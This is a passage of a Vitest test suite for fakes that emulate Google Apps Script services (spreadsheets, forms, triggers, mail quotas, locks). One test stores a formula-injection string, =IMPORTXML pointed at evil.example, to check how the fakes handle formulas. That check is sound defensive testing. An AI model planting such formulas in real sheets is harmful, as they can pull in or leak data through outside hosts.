import { describe, expect, it } from 'vitest';
import type { GasEnum } from '../../gas-fakes/core';
import type { FakeFormResponse } from '../../gas-fakes/forms';
import { loadBundleSource } from '../../gas-fakes/load';
import { createWorld, type GasWorld } from '../../gas-fakes/world';

const SERIAL_EPOCH = Date.UTC(1899, 11, 30);

function milestones(world: GasWorld) {
  return world.seedSpreadsheet([
    {
      name: 'Milestones',
      headers: ['ID', 'Status', 'Due'],
      rows: [
        ['M1', 'On track', new Date('2026-02-01T00:00:00Z')],
        ['M2', 'At risk', 7],
      ],
    },
  ])[0]!;
}

/** FormApp's publish call (not yet typed in @types/google-apps-script 2.0.13). */
function publish(form: object): void {
  (form as { setPublished(enabled: boolean): void }).setPublished(true);
}

describe('SpreadsheetApp', () => {
  it('addresses cells from 1, reads empty cells as "" and returns fresh arrays', () => {
    const world = createWorld();
    const sheet = world.spreadsheet.getSheets()[0]!;
    const range = sheet.getRange(2, 3, 2, 2);
    expect(range.getA1Notation()).toBe('C2:D3');
    expect([range.getRow(), range.getColumn(), range.getLastRow(), range.getLastColumn()]).toEqual([
      2, 3, 3, 4,
    ]);
    expect(sheet.getRange('B2:C3').getA1Notation()).toBe('B2:C3');
    expect(sheet.getRange(1, 1).getA1Notation()).toBe('A1');
    const values = range.getValues();
    expect(values).toEqual([
      ['', ''],
      ['', ''],
    ]);
    values[0]![0] = 'changed';
    expect(range.getValues()[0]![0]).toBe('');
    expect(() => sheet.getRange(0, 1)).toThrow('The starting row of the range is too small.');
    expect(() => sheet.getRange(1, 0)).toThrow('The starting column of the range is too small.');
    expect(() => sheet.getRange(1, 1, 0)).toThrow('The number of rows in the range must be at least 1.');
    expect(() => (sheet.getRange as (...a: unknown[]) => unknown)(undefined, 1)).toThrow(
      "The parameters (null,number) don't match the method signature for SpreadsheetApp.Sheet.getRange.",
    );
    expect(() => sheet.getRange('not a range!')).toThrow('Range not found');
  });

  it('round-trips Dates, numbers and booleans, and parses typed strings', () => {
    const world = createWorld({ timeZone: 'America/New_York' });
    const sheet = world.spreadsheet.getSheets()[0]!;
    const due = new Date('2026-03-04T15:30:00Z');
    sheet.getRange('A1:E1').setValues([[due, 42, true, 'text', null]]);
    const [row] = sheet.getRange('A1:E1').getValues();
    expect(row![0]).toBeInstanceOf(Date);
    expect((row![0] as Date).getTime()).toBe(due.getTime());
    expect(row!.slice(1)).toEqual([42, true, 'text', '']);

    const typed = sheet.getRange('A2:G2');
    typed.setValues([['2026-03-01', '007', "'007", '50%', 'TRUE', '3/1/2026', 'hello']]);
    const [t] = typed.getValues();
    expect((t![0] as Date).toISOString()).toBe('2026-03-01T05:00:00.000Z');
    expect(t!.slice(1, 5)).toEqual([7, '007', 0.5, true]);
    expect((t![5] as Date).toISOString()).toBe('2026-03-01T05:00:00.000Z');
    expect(t![6]).toBe('hello');

    const text = sheet.getRange('A3').setNumberFormat('@');
    text.setValue('007');
    expect(text.getValue()).toBe('007');
    expect(text.getNumberFormat()).toBe('@');
    expect(sheet.getRange('B3').getNumberFormat()).toBe('0.###############');
  });

  it('shows display values by number format in the spreadsheet time zone', () => {
    const world = createWorld({ timeZone: 'Europe/London' });
    const sheet = world.spreadsheet.getSheets()[0]!;
    sheet.getRange('A1').setNumberFormat('yyyy-mm-dd').setValue(new Date('2026-07-04T23:30:00Z'));
    sheet.getRange('B1').setValue(true);
    sheet.getRange('C1').setNumberFormat('0%').setValue(0.25);
    sheet.getRange('D1').setValue(new Date('2026-01-02T09:05:00Z'));
    expect(sheet.getRange('A1:D1').getDisplayValues()).toEqual([
      ['2026-07-05', 'TRUE', '25%', '1/2/2026 9:05:00'],
    ]);
  });

  it('spans the data range over the content, at least A1', () => {
    const world = createWorld();
    const sheet = world.spreadsheet.getSheets()[0]!;
    expect(sheet.getDataRange().getA1Notation()).toBe('A1');
    expect(sheet.getLastRow()).toBe(0);
    sheet.getRange('C4').setValue('x');
    sheet.getRange('B2').setNote('a note is not content');
    expect([sheet.getLastRow(), sheet.getLastColumn()]).toEqual([4, 3]);
    expect(sheet.getDataRange().getA1Notation()).toBe('A1:C4');
  });

  it('wants setValues data of the range dimensions exactly', () => {
    const world = createWorld();
    const range = world.spreadsheet.getSheets()[0]!.getRange(1, 1, 2, 3);
    expect(() => range.setValues([[1, 2, 3]])).toThrow(
      'The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2.',
    );
    expect(() =>
      range.setValues([
        [1, 2, 3],
        [4, 5],
      ]),
    ).toThrow(
      'The number of columns in the data does not match the number of columns in the range. The data has 2 but the range has 3.',
    );
    expect(range.getValues()).toEqual([
      ['', '', ''],
      ['', '', ''],
    ]);
  });

  it('grows the grid when writing past it', () => {
    const world = createWorld();
    const sheet = world.spreadsheet.getSheets()[0]!;
    expect([sheet.getMaxRows(), sheet.getMaxColumns()]).toEqual([1000, 26]);
    sheet.getRange(1001, 27, 2, 1).setValues([['a'], ['b']]);
    expect([sheet.getMaxRows(), sheet.getMaxColumns()]).toEqual([1002, 27]);
    expect(sheet.getRange(1002, 27).getValue()).toBe('b');
  });

  it('stores text starting with = as a formula and reads it as #ERROR!', () => {
    const world = createWorld();
    const sheet = world.spreadsheet.getSheets()[0]!;
    const injected = '=IMPORTXML("https://evil.example","//a")';
    sheet.getRange('A1:B1').setValues([[injected, "'=1+1"]]);
    expect(sheet.getRange('A1:B1').getValues()).toEqual([['#ERROR!', '=1+1']]);
    expect(sheet.getRange('A1:B1').getFormulas()).toEqual([[injected, '']]);
    expect(sheet.state.formulas()).toEqual({ A1: injected });
    expect(sheet.getLastRow()).toBe(1);
  });

  it('keeps notes, data validation, number formats and conditional format rules', () => {
    const world = createWorld();
    const { SpreadsheetApp } = world.services;
    const sheet = world.spreadsheet.insertSheet('Register');
    const range = sheet.getRange('B2:B3');
    range.setNotes([['first'], [null]]);
    expect(range.getNotes()).toEqual([['first'], ['']]);
    expect(sheet.getRange('B2').getNote()).toBe('first');
    sheet.getRange('B2').clearNote();
    expect(sheet.getRange('B2').getNote()).toBe('');

    const rule = SpreadsheetApp.newDataValidation()
      .requireValueInList(['On track', 'At risk'], true)
      .setAllowInvalid(false)
      .setHelpText('Pick one')
      .build();
    range.setDataValidation(rule);
    const read = sheet.getRange('B3').getDataValidation()!;
    expect(read.getCriteriaType()).toBe(SpreadsheetApp.DataValidationCriteria.VALUE_IN_LIST);
    expect(read.getCriteriaValues()).toEqual([['On track', 'At risk'], true]);
    expect([read.getAllowInvalid(), read.getHelpText()]).toEqual([false, 'Pick one']);
    expect(sheet.getRange('C3').getDataValidation()).toBeNull();

    const cf = SpreadsheetApp.newConditionalFormatRule()
      .whenTextEqualTo('At risk')
      .setBackground('#fce8b2')
      .setBold(true)
      .setRanges([range])
      .build();
    sheet.setConditionalFormatRules([...sheet.getConditionalFormatRules(), cf]);
    const [stored] = sheet.getConditionalFormatRules();
    expect(stored!.getRanges().map((r) => r.getA1Notation())).toEqual(['B2:B3']);
    expect(stored!.getBooleanCondition().getCriteriaValues()).toEqual(['At risk']);
    expect(stored!.getBooleanCondition().getBackground()).toBe('#fce8b2');
  });

  it('protects ranges, and protections follow inserted and deleted rows', () => {
    const world = createWorld();
    const { SpreadsheetApp } = world.services;
    const sheet = world.spreadsheet.getSheets()[0]!;
    sheet.getRange('A5:C6').protect().setDescription('Milepost: IDs').setWarningOnly(true);
    const [p] = world.spreadsheet.getProtections(SpreadsheetApp.ProtectionType.RANGE);
    expect([p!.getDescription(), p!.isWarningOnly(), p!.getRange().getA1Notation()]).toEqual([
      'Milepost: IDs',
      true,
      'A5:C6',
    ]);
    sheet.deleteRow(2);
    expect(
      world.spreadsheet.getProtections(SpreadsheetApp.ProtectionType.RANGE)[0]!.getRange().getA1Notation(),
    ).toBe('A4:C5');
    sheet.insertRowsAfter(1, 3);
    expect(
      world.spreadsheet.getProtections(SpreadsheetApp.ProtectionType.RANGE)[0]!.getRange().getA1Notation(),
    ).toBe('A7:C8');
    expect(sheet.getMaxRows()).toBe(1002);
    sheet.deleteRows(7, 2);
    expect(world.spreadsheet.getProtections(SpreadsheetApp.ProtectionType.RANGE)).toEqual([]);
  });

  it('manages sheets as Apps Script does', () => {
    const world = createWorld({ spreadsheetName: 'Leadership' });
    const ss = world.services.SpreadsheetApp.getActiveSpreadsheet()!;
    expect(ss.getName()).toBe('Leadership');
    expect(ss.getUrl()).toBe(`https://docs.google.com/spreadsheets/d/${ss.getId()}/edit`);
    const first = ss.insertSheet('First', 0);
    ss.insertSheet('Last');
    expect(ss.getSheets().map((s) => [s.getName(), s.getIndex()])).toEqual([
      ['First', 1],
      ['Sheet1', 2],
      ['Last', 3],
    ]);
    expect(() => ss.insertSheet('first')).toThrow(
      'A sheet with the name "first" already exists. Please enter another name.',
    );
    expect(ss.getSheetByName('Missing')).toBeNull();
    first.setFrozenRows(1);
    first.hideSheet();
    expect([first.getFrozenRows(), first.isSheetHidden()]).toEqual([1, true]);
    expect(first.getParent().getId()).toBe(ss.getId());
    expect(ss.getSpreadsheetTimeZone()).toBe('Europe/London');
    ss.setSpreadsheetTimeZone('Asia/Tokyo');
    expect(ss.getSpreadsheetTimeZone()).toBe('Asia/Tokyo');
  });

  it('records the menus a script adds', () => {
    const world = createWorld();
    const ui = world.services.SpreadsheetApp.getUi();
    const sub = ui.createMenu('More').addItem('Check', 'milepostValidate');
    ui.createMenu('Milepost').addItem('Sync now', 'milepostSync').addSeparator().addSubMenu(sub).addToUi();
    expect([...world.menu('Milepost')]).toEqual([
      ['Sync now', 'milepostSync'],
      ['More > Check', 'milepostValidate'],
    ]);
    expect(ui.alert('Done')).toBe(ui.Button.OK);
    expect(world.ui.alerts).toEqual([{ prompt: 'Done' }]);
  });

  it('throws "not implemented" for Apps Script methods the fakes do not have', () => {
    const world = createWorld();
    const range = world.spreadsheet.getSheets()[0]!.getRange('A1') as unknown as { getFontColor(): string };
    expect(() => range.getFontColor()).toThrow('FakeRange.getFontColor is not implemented');
  });
});

describe('the vm loader', () => {
  it('gives the script no Node globals', () => {
    const world = createWorld();
    const bundle = loadBundleSource(
      `function main() {
        return [typeof require, typeof process, typeof setTimeout, typeof fetch, typeof URL, typeof Buffer,
          typeof TextEncoder, typeof module, typeof global, typeof structuredClone, typeof setInterval].join(',');
      }`,
      world,
    );
    expect(bundle.call('main')).toBe(new Array(11).fill('undefined').join(','));
    expect(bundle.functions()).toEqual(['main']);
  });

  it('builds results in the script realm and reads the virtual clock', () => {
    const world = createWorld({ now: new Date('2026-04-01T10:00:00Z') });
    const start = world.now();
    const bundle = loadBundleSource(
      `function main() {
        var t = Date.now(), made = new Date().getTime();
        var sheet = SpreadsheetApp.getActiveSpreadsheet().getSheets()[0];
        sheet.getRange('A1').setValue(new Date(Date.UTC(2026, 0, 2)));
        var v = sheet.getRange('A1:B1').getValues();
        var err;
        try { sheet.getRange(0, 1); } catch (e) { err = e; }
        return {
          t: t, made: made, arr: v instanceof Array && v[0] instanceof Array, date: v[0][0] instanceof Date,
          time: v[0][0].getTime(), empty: v[0][1], err: err instanceof Error, msg: String(err),
          parse: Date.parse('2020-01-01T00:00:00Z'), utc: Date.UTC(2020, 0, 1), fixed: new Date(5).getTime(),
          call: typeof Date(), ctor: new Date().constructor === Date, sheets: SpreadsheetApp.getActive().getSheets() instanceof Array,
        };
      }`,
      world,
    );
    const r = bundle.call('main') as Record<string, unknown>;
    expect(r).toEqual({
      t: start,
      made: start,
      arr: true,
      date: true,
      time: Date.UTC(2026, 0, 2),
      empty: '',
      err: true,
      msg: 'Exception: The starting row of the range is too small.',
      parse: Date.UTC(2020, 0, 1),
      utc: Date.UTC(2020, 0, 1),
      fixed: 5,
      call: 'string',
      ctor: true,
      sheets: true,
    });
  });

  it('starts every execution afresh and settles async functions', () => {
    const world = createWorld();
    const bundle = loadBundleSource(
      `var counter = 0;
      function bump() { counter++; return counter; }
      async function later() { await null; return SpreadsheetApp.getActiveSpreadsheet().getName(); }`,
      world,
    );
    expect(bundle.call('bump')).toBe(1);
    expect(bundle.call('bump')).toBe(1);
    expect(bundle.call('later')).toBe('Milepost');
    expect(() => bundle.call('nope')).toThrow('Script function not found: nope');
    expect(() => bundle.call('counter')).toThrow('Script function not found: counter');
  });

  it('kills an execution after 6 minutes of service calls, even if the script catches it', () => {
    const world = createWorld();
    const bundle = loadBundleSource(
      `function main() {
        var range = SpreadsheetApp.getActiveSpreadsheet().getSheets()[0].getRange('A1');
        try { for (;;) range.getValues(); }
        catch (e) { PropertiesService.getScriptProperties().setProperty('caught', String(e)); }
        return 'finished';
      }`,
      world,
    );
    const start = world.now();
    expect(() => bundle.call('main')).toThrow('Exceeded maximum execution time');
    expect(world.now() - start).toBeGreaterThan(6 * 60_000);
    expect(world.count('Range.getValues')).toBe(18_000);
    expect(world.properties.script.size).toBe(0);
    // The next execution has its own budget.
    expect(loadBundleSource('function ok() { return Session.getScriptTimeZone(); }', world).call('ok')).toBe(
      'Europe/London',
    );
  });

  it('charges configurable costs and Utilities.sleep to the clock', () => {
    const world = createWorld({ costs: { rangeRead: 1000, methods: { 'Sheet.getRange': 0 } } });
    const sheet = world.spreadsheet.getSheets()[0]!;
    const before = world.now();
    sheet.getRange('A1').getValues();
    world.services.Utilities.sleep(250);
    expect(world.now() - before).toBe(1250);
  });

  it('runs simple triggers in LIMITED mode for 30 seconds at most', () => {
    const world = createWorld();
    const sheet = milestones(world);
    const bundle = loadBundleSource(
      `function onEdit(e) {
        PropertiesService.getScriptProperties().setProperty('edit', e.range.getA1Notation() + '=' + e.value + ' ' + e.authMode + ' ' + (e instanceof Object));
        MailApp.sendEmail('a@example.com', 'edited', 'body');
      }
      function slow(e) { var r = e.range; for (;;) r.getValues(); }`,
      world,
    );
    const event = world.person().setValue(sheet, 'B2', 'Missed');
    expect(() => bundle.call('onEdit', event)).toThrow(
      'You do not have permission to call MailApp.sendEmail. Required permissions: https://www.googleapis.com/auth/script.send_mail',
    );
    expect(world.properties.script.get('edit')).toBe('B2=Missed LIMITED true');
    const start = world.now();
    expect(() => bundle.call('slow', event)).toThrow('Exceeded maximum execution time');
    expect(world.now() - start).toBeLessThan(31_000);
  });

  it('refuses the UI outside a user context', () => {
    const world = createWorld();
    const bundle = loadBundleSource('function ui() { SpreadsheetApp.getUi(); return "ok"; }', world);
    expect(bundle.call('ui')).toBe('ok');
    world.services.ScriptApp.newTrigger('ui').timeBased().everyHours(1).create();
    const [run] = world.runDueTriggers();
    expect(run!.ok).toBe(false);
    expect(String(run!.error)).toBe('Exception: Cannot call SpreadsheetApp.getUi() from this context.');
  });

  it('counts every service call by name, not the fakes’ own calls', () => {
    const world = createWorld();
    milestones(world);
    const bundle = loadBundleSource(
      `function main() {
        var s = SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Milestones');
        var v = s.getDataRange().getValues();
        s.getRange(1, 1, v.length, v[0].length).setValues(v);
      }`,
      world,
    );
    world.resetCounts();
    const before = world.now();
    bundle.call('main');
    expect(world.counts()).toEqual({
      'Range.getValues': 1,
      'Range.setValues': 1,
      'Sheet.getDataRange': 1,
      'Sheet.getRange': 1,
      'Spreadsheet.getSheetByName': 1,
      'SpreadsheetApp.getActiveSpreadsheet': 1,
    });
    expect(world.count('Range.')).toBe(2);
    expect(world.now() - before).toBe(5 + 5 + 5 + 20 + 5 + 20);
    world.resetCounts();
    expect(world.counts()).toEqual({});
  });
});

describe('LockService', () => {
  const code = `function take() { return LockService.getScriptLock().tryLock(1000); }
    function wait() { var lock = LockService.getScriptLock(); lock.waitLock(5000); return lock.hasLock(); }`;

  it('takes a free lock and releases it when the execution ends', () => {
    const world = createWorld();
    const bundle = loadBundleSource(code, world);
    expect(bundle.call('take')).toBe(true);
    expect(world.locks.script.holder).toBeUndefined();
    const lock = world.services.LockService.getScriptLock();
    expect(lock.tryLock(0)).toBe(true);
    expect(world.services.LockService.getScriptLock().hasLock()).toBe(true);
    lock.releaseLock();
    expect(lock.hasLock()).toBe(false);
  });

  it('waits for a lock another execution holds, then gives up', () => {
    const world = createWorld();
    const bundle = loadBundleSource(code, world);
    world.holdLock('script');
    let before = world.now();
    expect(bundle.call('take')).toBe(false);
    expect(world.now() - before).toBeGreaterThanOrEqual(1000);
    before = world.now();
    expect(() => bundle.call('wait')).toThrow(
      'Lock timeout: another process was holding the lock for too long.',
    );
    expect(world.now() - before).toBeGreaterThanOrEqual(5000);
    world.holdLock('script', world.now() + 2000);
    before = world.now();
    expect(bundle.call('wait')).toBe(true);
    expect(world.now() - before).toBeGreaterThanOrEqual(2000);
    expect(world.now() - before).toBeLessThan(5000);
  });
});

describe('ScriptApp triggers', () => {
  it('installs, lists and deletes triggers within the limits', () => {
    const world = createWorld();
    const { ScriptApp, FormApp } = world.services;
    expect(() => ScriptApp.newTrigger('tick').timeBased().everyMinutes(7)).toThrow('1, 5, 10, 15 or 30');
    expect(() => ScriptApp.newTrigger('tick').timeBased().atHour(9).create()).toThrow();
    const clock = ScriptApp.newTrigger('tick').timeBased().everyMinutes(5).create();
    const form = FormApp.create('Updates');
    publish(form);
    const submit = ScriptApp.newTrigger('submitted').forForm(form).onFormSubmit().create();
    const weekly = ScriptApp.newTrigger('weekly')
      .timeBased()
      .onWeekDay(ScriptApp.WeekDay.MONDAY)
      .atHour(8)
      .create();
    expect(clock.getEventType()).toBe(ScriptApp.EventType.CLOCK);
    expect(String(clock.getTriggerSource())).toBe('CLOCK');
    expect(clock.getTriggerSourceId()).toBeNull();
    expect([submit.getHandlerFunction(), submit.getEventType(), submit.getTriggerSourceId()]).toEqual([
      'submitted',
      ScriptApp.EventType.ON_FORM_SUBMIT,
      form.getId(),
    ]);
    expect(weekly.state.schedule).toEqual({ onWeekDay: 'MONDAY', atHour: 8 });
    expect(ScriptApp.getProjectTriggers().map((t) => t.getUniqueId())).toEqual([
      clock.getUniqueId(),
      submit.getUniqueId(),
      weekly.getUniqueId(),
    ]);
    ScriptApp.deleteTrigger(submit);
    expect(ScriptApp.getProjectTriggers()).toHaveLength(2);
    for (let i = 0; i < 18; i++)
      ScriptApp.newTrigger(`f${i}`).forSpreadsheet(world.spreadsheet).onEdit().create();
    expect(() => ScriptApp.newTrigger('one too many').timeBased().everyHours(1).create()).toThrow(
      'This script has too many triggers. Triggers must be deleted from the script before more can be added.',
    );
  });

  it('runs time-driven triggers with their event, and fires installed triggers', () => {
    const world = createWorld({ now: new Date('2026-03-02T07:45:00Z') });
    const bundle = loadBundleSource(
      `function tick(e) {
        var p = PropertiesService.getScriptProperties();
        p.setProperty('ticks', String(Number(p.getProperty('ticks') || 0) + 1));
        p.setProperty('event', [e.triggerUid, e.authMode, e.hour, e.minute, e['day-of-week'], e.timezone].join(' '));
      }
      function opened(e) { return e.source.getName() + ' ' + e.authMode + ' ' + e.triggerUid; }`,
      world,
    );
    const t = world.services.ScriptApp.newTrigger('tick').timeBased().everyMinutes(15).create();
    const runs = world.runDueTriggers();
    expect(runs.map((r) => r.ok)).toEqual([true]);
    expect(world.properties.script.get('event')).toBe(`${t.getUniqueId()} FULL 7 45 1 UTC`);
    bundle.fire(t);
    expect(world.properties.script.get('ticks')).toBe('2');
    const open = world.services.ScriptApp.newTrigger('opened')
      .forSpreadsheet(world.spreadsheet.getId())
      .onOpen()
      .create();
    expect(bundle.fire(open)).toBe(`Milepost FULL ${open.getUniqueId()}`);
    world.services.ScriptApp.deleteTrigger(t);
    expect(() => bundle.fire(t)).toThrow('it was deleted');
  });
});

describe('MailApp', () => {
  it('counts recipients against the daily quota', () => {
    const world = createWorld({ mailQuota: 3 });
    const { MailApp } = world.services;
    MailApp.sendEmail({
      to: 'a@example.com, Bea <b@example.com>',
      cc: 'c@example.com',
      subject: 'Update',
      body: 'Hi',
      htmlBody: '<p>Hi</p>',
    });
    expect(MailApp.getRemainingDailyQuota()).toBe(0);
    expect(() => MailApp.sendEmail('d@example.com', 'Update', 'Hi')).toThrow(
      'Service invoked too many times for one day: email.',
    );
    expect(world.mail.sent).toHaveLength(1);
    expect(world.mail.sent[0]).toMatchObject({
      to: ['a@example.com', 'b@example.com'],
      cc: ['c@example.com'],
      bcc: [],
      subject: 'Update',
      htmlBody: '<p>Hi</p>',
    });
    world.advance(24 * 3_600_000);
    expect(MailApp.getRemainingDailyQuota()).toBe(3);
    MailApp.sendEmail('d@example.com', 'Second', 'Body');
    expect(world.mail.sent[1]).toMatchObject({ to: ['d@example.com'], subject: 'Second', body: 'Body' });
    expect(() => MailApp.sendEmail('nobody', 'x', 'y')).toThrow('Invalid email: nobody');
    expect(() => MailApp.sendEmail({ subject: 'x', body: 'y' })).toThrow(
      'Failed to send email: no recipient',
    );
    expect(world.counts()['MailApp.sendEmail']).toBe(5);
  });
});

describe('PropertiesService', () => {
  it('stores strings within Apps Script limits', () => {
    const world = createWorld();
    const props = world.services.PropertiesService.getScriptProperties();
    props.setProperty('n', 42 as unknown as string);
    expect(props.getProperty('n')).toBe('42');
    expect(props.getProperty('missing')).toBeNull();
    expect(() => props.setProperty('big', 'x'.repeat(9 * 1024 + 1))).toThrow('Argument too large: value');
    props.setProperties({ a: '1', b: '2' });
    expect(props.getKeys().sort()).toEqual(['a', 'b', 'n']);
    props.setProperties({ c: '3' }, true);
    expect(props.getProperties()).toEqual({ c: '3' });
    expect(world.services.PropertiesService.getDocumentProperties().getKeys()).toEqual([]);
    const chunk = 'y'.repeat(9000);
    expect(() => {
      for (let i = 0; i < 100; i++) props.setProperty(`k${i}`, chunk);
    }).toThrow('You have exceeded the property storage quota. Please remove some properties and try again.');
    expect(props.getKeys()).toHaveLength(57);
    props.deleteProperty('c');
    props.deleteAllProperties();
    expect(props.getKeys()).toEqual([]);
  });
});

describe('FormApp', () => {
  function branchingForm(world: GasWorld) {
    const { FormApp } = world.services;
    const form = FormApp.create('Weekly update');
    publish(form);
    const status = form.addMultipleChoiceItem().setTitle('Status').setRequired(true);
    const details = form.addPageBreakItem().setTitle('Details');
    const what = form.addParagraphTextItem().setTitle('What happened?').setRequired(true);
    const end = form.addPageBreakItem().setTitle('Anything else');
    const note = form.addTextItem().setTitle('Note');
    status.setChoices([
      status.createChoice('On track', FormApp.PageNavigationType.SUBMIT),
      status.createChoice('At risk', details),
    ]);
    return { FormApp, form, status, details, what, end, note };
  }

  it('gives items integer ids, indexes, types and branching', () => {
    const world = createWorld();
    const { FormApp, form, status, details } = branchingForm(world);
    const ids = form.getItems().map((i) => i.getId());
    expect(ids.every(Number.isInteger)).toBe(true);
    expect(new Set(ids).size).toBe(5);
    expect(form.getItems().map((i) => i.getIndex())).toEqual([0, 1, 2, 3, 4]);
    expect(form.getItemById(status.getId())!.getType()).toBe(FormApp.ItemType.MULTIPLE_CHOICE);
    expect(form.getItems(FormApp.ItemType.PAGE_BREAK).map((i) => i.getTitle())).toEqual([
      'Details',
      'Anything else',
    ]);
    const [onTrack, atRisk] = form.getItemById(status.getId())!.asMultipleChoiceItem().getChoices();
    expect(onTrack!.getPageNavigationType()).toBe(FormApp.PageNavigationType.SUBMIT);
    expect(atRisk!.getPageNavigationType()).toBe(FormApp.PageNavigationType.GO_TO_PAGE);
    expect(atRisk!.getGotoPage()!.getId()).toBe(details.getId());
    expect(() => form.getItemById(status.getId())!.asGridItem()).toThrow(
      'Invalid conversion for item type: MULTIPLE_CHOICE',
    );
    expect(() =>
      status.setChoices([
        status.createChoice('a'),
        status.createChoice('b', FormApp.PageNavigationType.SUBMIT),
      ]),
    ).toThrow(
      'Choices that use page navigation cannot be combined in the same item with choices that do not use page navigation.',
    );
    details.setGoToPage(FormApp.PageNavigationType.SUBMIT);
    expect(details.getPageNavigationType()).toBe(FormApp.PageNavigationType.SUBMIT);
    expect(form.getPublishedUrl()).toMatch(
      /^https:\/\/docs\.google\.com\/forms\/d\/e\/1FAIpQL[\w-]+\/viewform$/,
    );
    expect(form.getEditUrl()).toBe(`https://docs.google.com/forms/d/${form.getId()}/edit`);
    form.moveItem(4, 0);
    expect(form.getItems()[0]!.getTitle()).toBe('Note');
    form.deleteItem(0);
    expect(form.getItems()).toHaveLength(4);
  });

  it('lets respondents answer the pages they reach, and enforces choices and required items', () => {
    const world = createWorld();
    const { form, status, what, note } = branchingForm(world);
    const quick = world.respond(form, {
      email: 'ann@example.com',
      answers: new Map<number, unknown>([
        [status.getId(), 'On track'],
        [what.getId(), 'skipped page'],
      ]),
    }).response;
    expect(quick.getItemResponses().map((r) => [r.getItem().getTitle(), r.getResponse()])).toEqual([
      ['Status', 'On track'],
    ]);
    expect(quick.getRespondentEmail()).toBe('');
    expect(() =>
      world.respond(form, { email: 'bo@example.com', answers: new Map([[status.getId(), 'At risk']]) }),
    ).toThrow('is required');
    expect(() =>
      world.respond(form, { email: 'bo@example.com', answers: new Map([[status.getId(), 'Maybe']]) }),
    ).toThrow('"Maybe" is not one of its choices');
    form.setCollectEmail(true);
    world.advance(60_000);
    const full = world.respond(form, {
      email: 'bo@example.com',
      answers: { [status.getId()]: 'At risk', [what.getId()]: 'Supplier late', [note.getId()]: 'n/a' },
    }).response;
    const submittedAt = world.now();
    expect(full.getItemResponses().map((r) => r.getResponse())).toEqual(['At risk', 'Supplier late', 'n/a']);
    expect(full.getRespondentEmail()).toBe('bo@example.com');
    expect(form.getResponses().map((r) => r.getId())).toEqual([quick.getId(), full.getId()]);
    expect(form.getResponses(full.getTimestamp()).map((r) => r.getId())).toEqual([full.getId()]);
    expect(form.getResponse(full.getId()).getTimestamp().getTime()).toBe(submittedAt);
    form.setAcceptingResponses(false);
    expect(() => world.respond(form, { email: 'cy@example.com', answers: {} })).toThrow(
      'is no longer accepting responses',
    );
    form.deleteAllResponses();
    expect(form.getResponses()).toEqual([]);
  });

  it('reads grid, date and checkbox responses as Apps Script returns them', () => {
    const world = createWorld({ timeZone: 'Europe/London' });
    const { FormApp } = world.services;
    const form = FormApp.create('Grid');
    publish(form);
    const grid = form.addGridItem().setTitle('Progress').setRows(['M1', 'M2']).setColumns(['Done', 'Late']);
    const date = form.addDateItem().setTitle('Forecast');
    const boxes = form
      .addCheckboxItem()
      .setTitle('Help')
      .setChoiceValues(['People', 'Money'])
      .showOtherOption(true);
    const { response } = world.respond(form, {
      email: 'a@example.com',
      answers: new Map<number, unknown>([
        [grid.getId(), ['Late', null]],
        [date.getId(), new Date('2026-05-31T23:30:00Z')],
        [boxes.getId(), ['Money', 'Time']],
      ]),
    });
    expect(response.getItemResponses().map((r) => r.getResponse())).toEqual([
      ['Late', ''],
      '2026-06-01',
      ['Money', 'Time'],
    ]);
    expect(() => grid.createResponse(['Sometimes', ''])).toThrow('"Sometimes" is not one of its columns');
    expect(date.setIncludesYear(false).createResponse(new Date('2026-01-02T12:00:00Z')).getResponse()).toBe(
      '01-02',
    );
  });

  it('builds prefilled URLs from responses the script creates', () => {
    const world = createWorld();
    const { FormApp } = world.services;
    const form = FormApp.create('Prefill');
    publish(form);
    const mc = form.addMultipleChoiceItem().setTitle('Status');
    mc.setChoiceValues(['On track', 'At risk']).showOtherOption(true);
    const grid = form.addGridItem().setRows(['r1', 'r2']).setColumns(['x', 'y']);
    const date = form.addDateItem();
    const text = form.addTextItem();
    const url = form
      .createResponse()
      .withItemResponse(mc.createResponse('On track'))
      .withItemResponse(grid.createResponse(['', 'y']))
      .withItemResponse(date.createResponse(new Date('2026-03-04T12:00:00Z')))
      .withItemResponse(text.createResponse('a&b c'))
      .toPrefilledUrl();
    const [m, g, d, t] = form.state.items;
    expect(url).toBe(
      `${form.getPublishedUrl()}?usp=pp_url&entry.${m!.entryId}=On+track&entry.${g!.rowEntryIds[1]}=y&entry.${d!.entryId}=2026-03-04&entry.${t!.entryId}=a%26b+c`,
    );
    const other = form.createResponse().withItemResponse(mc.createResponse('Blocked')).toPrefilledUrl();
    expect(other).toBe(
      `${form.getPublishedUrl()}?usp=pp_url&entry.${m!.entryId}=__other_option__&entry.${m!.entryId}.other_option_response=Blocked`,
    );
    const submitted = form.createResponse().withItemResponse(text.createResponse('by script')).submit();
    expect(submitted.getEditResponseUrl()).toBe(`${form.getPublishedUrl()}?edit2=${submitted.getId()}`);
    expect(() => submitted.submit()).toThrow('already been submitted');
  });

  it('fires the form-submit triggers of a form when someone responds or edits', () => {
    const world = createWorld();
    const { FormApp, ScriptApp } = world.services;
    const form = FormApp.create('Updates').setAllowResponseEdits(true);
    publish(form);
    const status = form.addListItem().setTitle('Status').setChoiceValues(['On track', 'Missed']);
    const bundle = loadBundleSource(
      `function submitted(e) {
        var rs = e.response.getItemResponses();
        PropertiesService.getScriptProperties().setProperty('seen', JSON.stringify({
          uid: e.triggerUid, mode: String(e.authMode), form: e.source.getId(), id: e.response.getId(),
          answers: rs.map(function (r) { return [r.getItem().getTitle(), r.getResponse()]; }),
          array: rs instanceof Array,
        }));
      }
      function broken() { throw new Error('boom'); }`,
      world,
    );
    const trigger = ScriptApp.newTrigger('submitted').forForm(form).onFormSubmit().create();
    const first = world.respond(form, {
      email: 'a@example.com',
      answers: new Map([[status.getId(), 'On track']]),
    });
    expect(first.runs.map((r) => r.ok)).toEqual([true]);
    const seen = () => JSON.parse(world.properties.script.get('seen')!);
    expect(seen()).toEqual({
      uid: trigger.getUniqueId(),
      mode: 'FULL',
      form: form.getId(),
      id: first.response.getId(),
      answers: [['Status', 'On track']],
      array: true,
    });
    const edited = world.respond(form, {
      email: 'a@example.com',
      editOf: first.response.getId(),
      at: new Date(world.now() + 3_600_000),
      answers: new Map([[status.getId(), 'Missed']]),
    });
    expect(edited.response.getId()).toBe(first.response.getId());
    expect(seen().answers).toEqual([['Status', 'Missed']]);
    expect(form.getResponses()).toHaveLength(1);
    ScriptApp.newTrigger('broken').forForm(form).onFormSubmit().create();
    const { runs } = world.respond(form, {
      email: 'b@example.com',
      answers: new Map([[status.getId(), 'On track']]),
    });
